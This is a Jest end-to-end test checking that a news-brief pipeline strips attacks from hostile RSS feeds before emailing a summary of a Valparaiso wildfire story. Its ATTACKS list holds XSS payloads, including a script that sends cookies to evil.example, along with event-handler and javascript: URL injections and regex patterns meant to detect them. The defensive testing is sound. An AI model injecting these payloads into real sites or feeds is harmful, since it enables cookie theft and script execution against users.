import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { simpleParser } from 'mailparser';
import { runCycle } from '../../jobs/run-cycle';
import { type SmtpSink, startSmtpSink } from '../deliver/support/smtp-sink';
import { createSqliteDatabase, type TestDatabase } from '../support/databases';
import { addReader, type Pipeline, startPipeline } from '../support/pipeline';

jest.setTimeout(120_000);

const ATTACKS = [
  `<script>document.location='https://evil.example/?c='+document.cookie</script>`,
  `<img src="https://tracker.example/pixel.gif?u=1" width="1" height="1" onerror="alert(1)">`,
  `<a href="javascript:alert('x')">click</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>`,
  `<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>`,
  `<p onclick="steal()" style="background:url(javascript:alert(1))">unbalanced <b><i>markup`,
  `<svg/onload=alert(3)><form action="javascript:alert(1)"><button>Go</button></form>`,
];

/** Two outlets report one event; every title, lead and link carries an attack. */
function hostileFeed(outlet: string, host: string): string {
  const sentences = [
    'Firefighters contained a large wildfire near the port city of Valparaiso on Saturday after two days of strong winds.',
    'More than 3,000 residents were evacuated from hillside neighbourhoods as the flames spread towards the city.',
    'Officials said no deaths had been reported and that power had been restored to most homes by the evening.',
  ];
  const items = sentences.map((sentence, index) => {
    const attack = ATTACKS[(index + outlet.length) % ATTACKS.length];
    const description = `<![CDATA[<p>${sentence}</p>${attack}<p>Read more</p>]]>`;
    return `<item>
      <title><![CDATA[Valparaiso wildfire ${index === 0 ? 'contained' : 'update'} <script>alert('t')</script><img src=x onerror=alert(2)>]]></title>
      <link>https://${host}/news/valparaiso-fire-${index}?utm_source=rss&amp;utm_medium=feed</link>
      <guid isPermaLink="false">${host}-${index}</guid>
      <pubDate>Sat, 28 Nov 2026 0${index + 3}:00:00 GMT</pubDate>
      <description>${description}</description>
    </item>`;
  });
  return `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>${outlet}</title>
    <link>https://${host}/</link><description>x</description>${items.join('')}
    <item><title>javascript link item</title><link>javascript:alert(document.domain)</link><guid>bad</guid>
    <pubDate>Sat, 28 Nov 2026 05:00:00 GMT</pubDate><description>Skipped: not http(s).</description></item>
  </channel></rss>`;
}

/**
 * Invariant 4 end to end: attacks in feed titles, leads and links go through ingest, clustering,
 * summarizing, rendering and SMTP; what arrives holds none of them, and every link is http(s).
 */
describe('a hostile feed through the whole pipeline', () => {
  let database: TestDatabase;
  let sink: SmtpSink;
  let pipeline: Pipeline;

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'brief-hostile-'));
    writeFileSync(join(dir, 'a.xml'), hostileFeed('Outlet A', 'a.example'));
    writeFileSync(join(dir, 'b.xml'), hostileFeed('Outlet Bee', 'b.example'));
    database = await createSqliteDatabase();
    sink = await startSmtpSink();
    pipeline = await startPipeline(database, {
      smtpUrl: sink.url,
      feeds: {
        dir,
        sources: [
          { id: 'outlet-a', outlet: 'Outlet A', url: '/a.xml', section: 'world' },
          { id: 'outlet-b', outlet: 'Outlet <b>Bee</b>', url: '/b.xml', section: 'world' },
        ],
      },
    });
    await addReader(pipeline.context, 'target@example.org', 'UTC', ['world']);
  });

  afterAll(async () => {
    await pipeline.close();
    await sink.close();
    await database.drop();
  });

  test('the story arrives with its points and sources, and nothing active, only http(s) links', async () => {
    const report = await runCycle(pipeline.context, pipeline.queues, pipeline.connection);
    expect(report.sends.sent).toBe(1);
    const mail = await simpleParser(sink.messages[0] as Buffer);
    const html = mail.html as string;
    const text = mail.text as string;
    expect(text).toMatch(/Valparaiso wildfire/);
    expect(text).toMatch(/3,000 residents were evacuated/);
    // Both outlets run the same text: one report, listed under both (docs/summarization.md).
    expect(text).toMatch(/Single source: one report carried by 2 outlets/);
    for (const part of [html, text]) {
      expect(part).not.toMatch(/<script|<iframe|<object|<embed|<svg|<form|<button/i);
      expect(part).not.toMatch(/javascript:|data:text|vbscript:/i);
      expect(part).not.toMatch(/\bon(click|error|load|mouseover)\s*=/i);
      expect(part).not.toMatch(/tracker\.example|evil\.example|alert\(/);
      expect(part).not.toMatch(/utm_source|Read more/);
    }
    expect(html).not.toMatch(/<img/i);
    // The feed's own styles (MJML's preheader legitimately uses display:none).
    expect(html).not.toMatch(/body\s*\{\s*display:\s*none|url\(/i);
    expect(html).not.toMatch(/<b>Bee/);
    for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https:\/\/|mailto:)/);
    expect(html).toMatch(/href="https:\/\/a\.example\/news\/valparaiso-fire-\d"/);
  });
});
